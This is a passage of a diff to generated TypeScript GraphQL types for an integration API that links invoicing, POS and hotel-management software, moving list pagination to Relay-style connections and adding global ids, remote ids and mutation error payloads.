    * @deprecated Use taxRate; kept for clients of earlier versions
    */
   rate?: Maybe<Scalars['Float']['output']>;
+  /** The tax rate, when known */
+  tax?: Maybe<PmsTaxRate>;
   /** Amount of tax at this rate */
   taxAmount: Scalars['Float']['output'];
   /** Lintel id of the tax rate, when known */
@@ -984,10 +1157,10 @@ export type PmsPartner = {
   companyName?: Maybe<Scalars['String']['output']>;
   /** First name of a person */
   firstName?: Maybe<Scalars['String']['output']>;
-  /** Identifier of the partner in Lintel */
-  id: Scalars['ID']['output'];
   /** Last name of a person */
   lastName?: Maybe<Scalars['String']['output']>;
+  /** Identifier of the partner in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
   /** Role of a partner on a bill: the owner of the bill or an account charged */
@@ -1008,8 +1181,8 @@ export type PmsReservation = {
   creationDate?: Maybe<Scalars['LocalDateTime']['output']>;
   /** Departure, in the hotel’s local time (ISO 8601, without zone designator) */
   endDate?: Maybe<Scalars['LocalDateTime']['output']>;
-  /** Identifier of the reservation in Lintel */
-  id: Scalars['ID']['output'];
+  /** Identifier of the reservation in the connected software */
+  remoteId: Scalars['String']['output'];
   /** The room booked */
   resourceId?: Maybe<PmsResource>;
   /** Number or code of the room */
@@ -1025,16 +1198,16 @@ export type PmsReservation = {
 /** A bookable resource (a room) of the PMS */
 export type PmsResource = {
   __typename?: 'PmsResource';
-  /** Identifier of the resource in Lintel */
-  id: Scalars['ID']['output'];
+  /** Identifier of the resource in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
 };
 
 /** A tax rate configured in the property management system */
-export type PmsTaxRate = {
+export type PmsTaxRate = Node & {
   __typename?: 'PmsTaxRate';
-  /** Identifier of the tax rate in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** A city or tourist tax rather than VAT */
   isCityTax: Scalars['Boolean']['output'];
@@ -1044,40 +1217,51 @@ export type PmsTaxRate = {
   rate: Scalars['Float']['output'];
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the tax rate in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
 };
 
-/** One page of PmsTaxRate records */
-export type PmsTaxRatePage = {
-  __typename?: 'PmsTaxRatePage';
-  /** The records of this page */
-  items: Array<PmsTaxRate>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of PmsTaxRate records (Relay connection) */
+export type PmsTaxRateConnection = {
+  __typename?: 'PmsTaxRateConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<PmsTaxRateEdge>;
+  /** The records of the page */
+  nodes: Array<PmsTaxRate>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One PmsTaxRate in a page, with its cursor */
+export type PmsTaxRateEdge = {
+  __typename?: 'PmsTaxRateEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The PmsTaxRate */
+  node: PmsTaxRate;
 };
 
 /** The records of a consumer’s point of sale software: modifier groups */
 export type Pos = {
   __typename?: 'Pos';
   /** List modifiers. The modifier groups (add-ons, customisation options) of the POS products, of one location or all. */
-  modifiers: ModifierGroupPage;
+  modifiers?: Maybe<ModifierGroupConnection>;
 };
 
 
 /** The records of a consumer’s point of sale software: modifier groups */
 export type PosModifiersArgs = {
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
   locationId?: InputMaybe<Scalars['String']['input']>;
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
 };
 
 /** A product or service of the invoicing catalogue */
-export type Product = {
+export type Product = Node & {
   __typename?: 'Product';
   /** Quantity in stock; services and products without inventory report 0 */
   availableQuantity: Scalars['Float']['output'];
@@ -1091,14 +1275,18 @@ export type Product = {
   currency?: Maybe<Scalars['CurrencyCode']['output']>;
   /** Longer text describing the product */
   description?: Maybe<Scalars['String']['output']>;
-  /** Identifier of the product in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** Name of the product or service */
   name: Scalars['String']['output'];
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the product in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
+  /** The tax code that applies by default */
+  tax?: Maybe<TaxCode>;
   /** Lintel id of the tax code that applies by default */
   taxId?: Maybe<Scalars['String']['output']>;
   /** Unit of measure, as the software names it */
@@ -1107,34 +1295,47 @@ export type Product = {
   unitPrice?: Maybe<Scalars['Float']['output']>;
 };
 
-/** One page of Product records */
-export type ProductPage = {
-  __typename?: 'ProductPage';
-  /** The records of this page */
-  items: Array<Product>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of Product records (Relay connection) */
+export type ProductConnection = {
+  __typename?: 'ProductConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<ProductEdge>;
+  /** The records of the page */
+  nodes: Array<Product>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One Product in a page, with its cursor */
+export type ProductEdge = {
+  __typename?: 'ProductEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The Product */
+  node: Product;
 };
 
 /** What an API client reads: consumers, their connected software, connectors and webhooks */
 export type Query = {
   __typename?: 'Query';
   /** Get a consumer. One consumer of the account. */
-  consumer: Consumer;
+  consumer?: Maybe<Consumer>;
   /** List consumers. The consumers of the account, optionally those whose name or email contains `search`. */
-  consumers: Array<Consumer>;
+  consumers?: Maybe<ConsumerConnection>;
   /** List integrations. The connectors, their credentials and which operations each serves. */
   integrations: Array<Integration>;
+  /** Any object by its global id; null (with one ERROR_NODE_NOT_FOUND error) when the account has no such object */
+  node?: Maybe<Node>;
+  /** Several objects by their global ids, in the same order; each missing one is null with its own ERROR_NODE_NOT_FOUND error */
+  nodes: Array<Maybe<Node>>;
   /** Get a subscription. One webhook subscription of the account. */
-  webhook: Webhook;
+  webhook?: Maybe<Webhook>;
   /** List event types. The events a subscription can deliver, each with its API. */
   webhookEventTypes: Array<WebhookEventType>;
   /** List subscriptions. The webhook subscriptions of the account. */
-  webhooks: Array<Webhook>;
+  webhooks?: Maybe<WebhookConnection>;
 };
 
 
@@ -1146,6 +1347,8 @@ export type QueryConsumerArgs = {
 
 /** What an API client reads: consumers, their connected software, connectors and webhooks */
 export type QueryConsumersArgs = {
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
   internalReference?: InputMaybe<Scalars['String']['input']>;
   search?: InputMaybe<Scalars['String']['input']>;
 };
@@ -1159,6 +1362,18 @@ export type QueryIntegrationsArgs = {
 
 
 /** What an API client reads: consumers, their connected software, connectors and webhooks */
+export type QueryNodeArgs = {
+  id: Scalars['ID']['input'];
+};
+
+
+/** What an API client reads: consumers, their connected software, connectors and webhooks */
+export type QueryNodesArgs = {
+  ids: Array<Scalars['ID']['input']>;
+};
+
+
+/** What an API client reads: consumers, their connected software, connectors and webhooks */
 export type QueryWebhookArgs = {
   id: Scalars['ID']['input'];
 };
@@ -1166,16 +1381,35 @@ export type QueryWebhookArgs = {
 
 /** What an API client reads: consumers, their connected software, connectors and webhooks */
 export type QueryWebhooksArgs = {
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
   status?: InputMaybe<WebhookStatus>;
 };
 
 /** Technical id and entity name of a record in the connected software */
 export type Ref = {
   __typename?: 'Ref';
-  /** Id of the record in the connected software */
-  id?: Maybe<Scalars['String']['output']>;
   /** Name of the entity in the connected software */
   model?: Maybe<Scalars['String']['output']>;
+  /** Id of the record in the connected software */
+  remoteId?: Maybe<Scalars['String']['output']>;
+};
+
+/** What replayWebhookLog changes: replay a delivery */
+export type ReplayWebhookLogInput = {
+  /** The delivery attempt */
+  logId: Scalars['ID']['input'];
+  /** The subscription */
+  webhookId: Scalars['ID']['input'];
+};
+
+/** What replayWebhookLog answers */
+export type ReplayWebhookLogPayload = {
+  __typename?: 'ReplayWebhookLogPayload';
+  /** The delivery attempt; null when the mutation failed */
+  log?: Maybe<WebhookLog>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
 };
 
 /** What an API client follows as it happens */
@@ -1194,13 +1428,13 @@ export type SubscriptionEventsArgs = {
 };
 
 /** A VAT or other tax code configured in the invoicing software */
-export type TaxCode = {
+export type TaxCode = Node & {
   __typename?: 'TaxCode';
   /** False once the code is archived */
   active?: Maybe<Scalars['Boolean']['output']>;
   /** Short code the software gives the tax */
   code?: Maybe<Scalars['String']['output']>;
-  /** Identifier of the tax code in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** Name of the tax code as the software shows it */
   label: Scalars['String']['output'];
@@ -1208,6 +1442,8 @@ export type TaxCode = {
   rate: Scalars['Float']['output'];
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the tax code in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Where a tax code applies: national, intra-EU or international trade */
   scope?: Maybe<TaxScope>;
   /** Technical id and entity name of a record in the connected software */
@@ -1216,17 +1452,26 @@ export type TaxCode = {
   type: TaxType;
 };
 
-/** One page of TaxCode records */
-export type TaxCodePage = {
-  __typename?: 'TaxCodePage';
-  /** The records of this page */
-  items: Array<TaxCode>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of TaxCode records (Relay connection) */
+export type TaxCodeConnection = {
+  __typename?: 'TaxCodeConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<TaxCodeEdge>;
+  /** The records of the page */
+  nodes: Array<TaxCode>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One TaxCode in a page, with its cursor */
+export type TaxCodeEdge = {
+  __typename?: 'TaxCodeEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The TaxCode */
+  node: TaxCode;
 };
 
 /** Where a tax code applies: national, intra-EU or international trade */
@@ -1251,8 +1496,27 @@ export type TaxType =
   /** The software does not say */
   | 'UNKNOWN';
 
-/** Changes to a connection */
+/** What testWebhook changes: send a test event */
+export type TestWebhookInput = {
+  /** The subscription */
+  id: Scalars['ID']['input'];
+};
+
+/** What testWebhook answers */
+export type TestWebhookPayload = {
+  __typename?: 'TestWebhookPayload';
+  /** The delivery attempt; null when the mutation failed */
+  log?: Maybe<WebhookLog>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What updateConnection changes: update a connection */
 export type UpdateConnectionInput = {
+  /** The connection */
+  connectionId: Scalars['ID']['input'];
+  /** The consumer */
+  consumerId: Scalars['ID']['input'];
   /** Credentials of the connection, the keys GET /integrations lists for the connector */
   credentials?: InputMaybe<Array<CredentialInput>>;
   /** Name of the connection */
@@ -1263,10 +1527,23 @@ export type UpdateConnectionInput = {
   status?: InputMaybe<ConnectionStatus>;
 };
 
-/** Changes to a consumer: fields left out stay as they are, null clears them */
+/** What updateConnection answers: the connection and its connect page, or why there are none */
+export type UpdateConnectionPayload = {
+  __typename?: 'UpdateConnectionPayload';
+  /** The connect page where the end user finishes or changes the connection (signed, expiring); null when the mutation failed */
+  connectUrl?: Maybe<Scalars['URL']['output']>;
+  /** The connection; null when none was made yet (the end user finishes on the connect page) or the mutation failed */
+  connection?: Maybe<Connection>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What updateConsumer changes: update a consumer */
 export type UpdateConsumerInput = {
   /** Email address of the consumer */
   email?: InputMaybe<Scalars['String']['input']>;
+  /** The consumer */
+  id: Scalars['ID']['input'];
   /** Your own reference for the consumer */
   internalReference?: InputMaybe<Scalars['String']['input']>;
   /** Name of the consumer */
@@ -1275,8 +1552,19 @@ export type UpdateConsumerInput = {
   redirectUrl?: InputMaybe<Scalars['URL']['input']>;
 };
 
-/** Changes to a subscription */
+/** What updateConsumer answers */
+export type UpdateConsumerPayload = {
+  __typename?: 'UpdateConsumerPayload';
+  /** The changed consumer; null when the mutation failed */
+  consumer?: Maybe<Consumer>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What updateWebhook changes: update a subscription */
 export type UpdateWebhookInput = {
+  /** The subscription */
+  id: Scalars['ID']['input'];
   /** New signing secret; an empty string removes it (deliveries go unsigned) */
   signingSecret?: InputMaybe<Scalars['String']['input']>;
   /** Pause the deliveries or resume them */
@@ -1285,8 +1573,63 @@ export type UpdateWebhookInput = {
   url?: InputMaybe<Scalars['URL']['input']>;
 };
 
+/** What updateWebhook answers */
+export type UpdateWebhookPayload = {
+  __typename?: 'UpdateWebhookPayload';
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+  /** The subscription; null when the mutation failed */
+  webhook?: Maybe<Webhook>;
+};
+
+/** Why a mutation did not change anything, or did not change all it was asked to */
+export type UserError = {
+  __typename?: 'UserError';
+  /** What went wrong */
+  code: UserErrorCode;
+  /** Path of the input field at fault from the mutation’s arguments (`["input", "name"]`; list indexes as strings); null when no single field is */
+  field?: Maybe<Array<Scalars['String']['output']>>;
+  /** What went wrong, specifically */
+  message: Scalars['String']['output'];
+};
+
+/** What went wrong with a mutation, in the codes of the REST error catalogue */
+export type UserErrorCode =
+  /** The connected software has no such record */
+  | 'ERROR_API_RESOURCE_NOT_FOUND'
+  /** The request cannot be served as given (e.g. several active connections and none chosen) */
+  | 'ERROR_BAD_REQUEST'
+  /** The connection does not exist for the consumer */
+  | 'ERROR_CONNECTION_NOT_FOUND'
+  /** The connected software refused the connection’s credentials */
+  | 'ERROR_CONNECTOR_AUTHENTICATION'
+  /** The connected software refused or failed the request */
+  | 'ERROR_CONNECTOR_REQUEST'
+  /** The consumer does not exist in the account */
+  | 'ERROR_CONSUMER_NOT_FOUND'
+  /** The idempotency key was used with another input, or its first use is still running */
+  | 'ERROR_IDEMPOTENCY_CONFLICT'
+  /** A write with this idempotency key may or may not have reached the software */
+  | 'ERROR_IDEMPOTENCY_UNKNOWN_OUTCOME'
+  /** No connector has that integration id */
+  | 'ERROR_INTEGRATION_NOT_FOUND'
+  /** The credentials given are not valid for the connector */
+  | 'ERROR_INVALID_CREDENTIALS'
+  /** The consumer has no active connection for the API */
+  | 'ERROR_NO_ACTIVE_CONNECTION'
+  /** The connector does not serve this operation */
+  | 'ERROR_RESOURCE_NOT_SUPPORTED'
+  /** A field of the input is invalid (`field` says which) */
+  | 'ERROR_VALIDATION'
+  /** A subscription to this event and URL exists already */
+  | 'ERROR_WEBHOOK_DUPLICATE'
+  /** The delivery attempt does not exist for the subscription */
+  | 'ERROR_WEBHOOK_LOG_NOT_FOUND'
+  /** The webhook subscription does not exist in the account */
+  | 'ERROR_WEBHOOK_NOT_FOUND';
+
 /** A subscription of one event to one URL; the signing secret is never returned */
-export type Webhook = {
+export type Webhook = Node & {
   __typename?: 'Webhook';
   /** Account of the subscription */
   accountId: Scalars['ID']['output'];
@@ -1300,8 +1643,8 @@ export type Webhook = {
   id: Scalars['ID']['output'];
   /** Only events of this connector */
   integrationId?: Maybe<Scalars['Int']['output']>;
-  /** List delivery attempts. The delivery attempts of a subscription, newest first, one page of them (`page`, `size`; an array, as Chift answers). */
-  logs: Array<WebhookLog>;
+  /** List delivery attempts. The delivery attempts of a subscription, newest first (REST answers one page of them, `page` and `size`, as an array, as Chift does). */
+  logs?: Maybe<WebhookLogConnection>;
   /** Whether a webhook subscription delivers events */
   status: WebhookStatus;
   /** Where deliveries are POSTed */
@@ -1311,8 +1654,21 @@ export type Webhook = {
 
 /** A subscription of one event to one URL; the signing secret is never returned */
 export type WebhookLogsArgs = {
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+};
+
+/** A page of webhook subscription records (Relay connection) */
+export type WebhookConnection = {
+  __typename?: 'WebhookConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<WebhookEdge>;
+  /** The records of the page */
+  nodes: Array<Webhook>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
 };
 
 /** Why a delivery attempt got no HTTP answer */
@@ -1333,6 +1689,15 @@ export type WebhookDeliveryError =
   | 'TLS_FAILURE'
   /** The receiver’s network could not be reached */
   | 'UNREACHABLE';
+
+/** One webhook subscription in a page, with its cursor */
+export type WebhookEdge = {
+  __typename?: 'WebhookEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The webhook subscription */
+  node: Webhook;
+};
 
 /** An event Lintel delivers to webhook subscriptions and streams to the events subscription */
 export type WebhookEvent =
@@ -1371,7 +1736,7 @@ export type WebhookEventType = {
 };
 
 /** One delivery attempt of an event */
-export type WebhookLog = {
+export type WebhookLog = Node & {
   __typename?: 'WebhookLog';
   /** Account of the subscription */
   accountId: Scalars['ID']['output'];
@@ -1401,6 +1766,28 @@ export type WebhookLog = {
   webhookId: Scalars['ID']['output'];
 };
 
+/** A page of delivery attempt records (Relay connection) */
+export type WebhookLogConnection = {
+  __typename?: 'WebhookLogConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<WebhookLogEdge>;
+  /** The records of the page */
+  nodes: Array<WebhookLog>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One delivery attempt in a page, with its cursor */
+export type WebhookLogEdge = {
+  __typename?: 'WebhookLogEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The delivery attempt */
+  node: WebhookLog;
+};
+
 /** Whether a webhook subscription delivers events */
 export type WebhookStatus =
   /** Events are delivered to its URL */
@@ -1413,42 +1800,42 @@ export type IsoListsQueryVariables = Exact<{
 }>;
 
 
-export type IsoListsQuery = { __typename?: 'Query', consumers: Array<{ __typename?: 'Consumer', id: string }>, webhooks: Array<{ __typename?: 'Webhook', id: string, accountId: string }> };
+export type IsoListsQuery = { __typename?: 'Query', consumers?: { __typename?: 'ConsumerConnection', totalCount: number, nodes: Array<{ __typename?: 'Consumer', id: string }> } | null, webhooks?: { __typename?: 'WebhookConnection', totalCount: number, nodes: Array<{ __typename?: 'Webhook', id: string, accountId: string }> } | null };
 
 export type IsoConsumerQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoConsumerQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', id: string, name: string, email?: string | null } };
+export type IsoConsumerQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', id: string, name: string, email?: string | null } | null };
 
 export type IsoConnectionsQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoConnectionsQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', connections: Array<{ __typename?: 'Connection', id: string, name: string }> } };
+export type IsoConnectionsQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', connections: Array<{ __typename?: 'Connection', id: string, name: string }> } | null };
 
 export type IsoUpdateConsumerMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoUpdateConsumerMutation = { __typename?: 'Mutation', updateConsumer: { __typename?: 'Consumer', id: string } };
+export type IsoUpdateConsumerMutation = { __typename?: 'Mutation', updateConsumer: { __typename?: 'UpdateConsumerPayload', consumer?: { __typename?: 'Consumer', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoDeleteConsumerMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoDeleteConsumerMutation = { __typename?: 'Mutation', deleteConsumer: { __typename?: 'Consumer', id: string } };
+export type IsoDeleteConsumerMutation = { __typename?: 'Mutation', deleteConsumer: { __typename?: 'DeleteConsumerPayload', deletedId?: string | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoCreateConnectionMutationVariables = Exact<{
   consumerId: Scalars['ID']['input'];
 }>;
 
 
-export type IsoCreateConnectionMutation = { __typename?: 'Mutation', createConnection: { __typename?: 'Connection', id: string } };
+export type IsoCreateConnectionMutation = { __typename?: 'Mutation', createConnection: { __typename?: 'CreateConnectionPayload', connectUrl?: string | null, connection?: { __typename?: 'Connection', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoUpdateConnectionMutationVariables = Exact<{
   consumerId: Scalars['ID']['input'];
@@ -1456,7 +1843,7 @@ export type IsoUpdateConnectionMutationVariables = Exact<{
 }>;
 
 
-export type IsoUpdateConnectionMutation = { __typename?: 'Mutation', updateConnection: { __typename?: 'Connection', id: string } };
+export type IsoUpdateConnectionMutation = { __typename?: 'Mutation', updateConnection: { __typename?: 'UpdateConnectionPayload', connectUrl?: string | null, connection?: { __typename?: 'Connection', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoDeleteConnectionMutationVariables = Exact<{
   consumerId: Scalars['ID']['input'];
@@ -1464,113 +1851,126 @@ export type IsoDeleteConnectionMutationVariables = Exact<{
 }>;
 
 
-export type IsoDeleteConnectionMutation = { __typename?: 'Mutation', deleteConnection: { __typename?: 'Connection', id: string } };
+export type IsoDeleteConnectionMutation = { __typename?: 'Mutation', deleteConnection: { __typename?: 'DeleteConnectionPayload', deletedId?: string | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoInvoicingTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoInvoicingTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes: { __typename?: 'TaxCodePage', total: number, items: Array<{ __typename?: 'TaxCode', id: string }> } } } };
+export type IsoInvoicingTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes?: { __typename?: 'TaxCodeConnection', totalCount: number, nodes: Array<{ __typename?: 'TaxCode', remoteId: string }> } | null } } | null };
 
 export type IsoOpportunitiesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoOpportunitiesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities: { __typename?: 'OpportunityPage', total: number, items: Array<{ __typename?: 'Opportunity', id: string }> } } } };
+export type IsoOpportunitiesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities?: { __typename?: 'OpportunityConnection', totalCount: number, nodes: Array<{ __typename?: 'Opportunity', remoteId: string }> } | null } } | null };
 
 export type IsoContactQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoContactQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact: { __typename?: 'Contact', id: string } } } };
+export type IsoContactQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact?: { __typename?: 'Contact', remoteId: string } | null } } | null };
 
 export type IsoCreateProductMutationVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'Product', id: string } };
+export type IsoCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'CreateProductPayload', product?: { __typename?: 'Product', id: string, remoteId: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoModifiersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoModifiersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers: { __typename?: 'ModifierGroupPage', total: number, items: Array<{ __typename?: 'ModifierGroup', id: string }> } } } };
+export type IsoModifiersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers?: { __typename?: 'ModifierGroupConnection', totalCount: number, nodes: Array<{ __typename?: 'ModifierGroup', remoteId: string }> } | null } } | null };
 
 export type IsoPmsTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoPmsTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes: { __typename?: 'PmsTaxRatePage', total: number, items: Array<{ __typename?: 'PmsTaxRate', id: string }> } } } };
+export type IsoPmsTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes?: { __typename?: 'PmsTaxRateConnection', totalCount: number, nodes: Array<{ __typename?: 'PmsTaxRate', remoteId: string }> } | null } } | null };
 
 export type IsoPmsOrdersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
 }>;
 
 
-export type IsoPmsOrdersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders: { __typename?: 'PmsOrderPage', total: number, items: Array<{ __typename?: 'PmsOrder', id: string }> } } } };
+export type IsoPmsOrdersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders?: { __typename?: 'PmsOrderConnection', totalCount: number, nodes: Array<{ __typename?: 'PmsOrder', remoteId: string }> } | null } } | null };
 
 export type IsoWebhookQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoWebhookQuery = { __typename?: 'Query', webhook: { __typename?: 'Webhook', id: string, url: string } };
+export type IsoWebhookQuery = { __typename?: 'Query', webhook?: { __typename?: 'Webhook', id: string, url: string } | null };
 
 export type IsoWebhookLogsQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoWebhookLogsQuery = { __typename?: 'Query', webhook: { __typename?: 'Webhook', logs: Array<{ __typename?: 'WebhookLog', id: string }> } };
+export type IsoWebhookLogsQuery = { __typename?: 'Query', webhook?: { __typename?: 'Webhook', logs?: { __typename?: 'WebhookLogConnection', totalCount: number, nodes: Array<{ __typename?: 'WebhookLog', id: string }> } | null } | null };
 
 export type IsoUpdateWebhookMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'Webhook', id: string } };
+export type IsoUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'UpdateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type IsoDeleteWebhookMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type IsoDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: boolean };
+export type IsoDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: { __typename?: 'DeleteWebhookPayload', deletedId?: string | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
+
+export type IsoTestWebhookMutationVariables = Exact<{
+  id: Scalars['ID']['input'];
+}>;
+
+
+export type IsoTestWebhookMutation = { __typename?: 'Mutation', testWebhook: { __typename?: 'TestWebhookPayload', log?: { __typename?: 'WebhookLog', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type MgmtConsumersQueryVariables = Exact<{
   search?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type MgmtConsumersQuery = { __typename?: 'Query', consumers: Array<{ __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null }> };
+export type MgmtConsumersQuery = { __typename?: 'Query', consumers?: { __typename?: 'ConsumerConnection', totalCount: number, nodes: Array<{ __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null }> } | null };
 
 export type MgmtConsumerQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
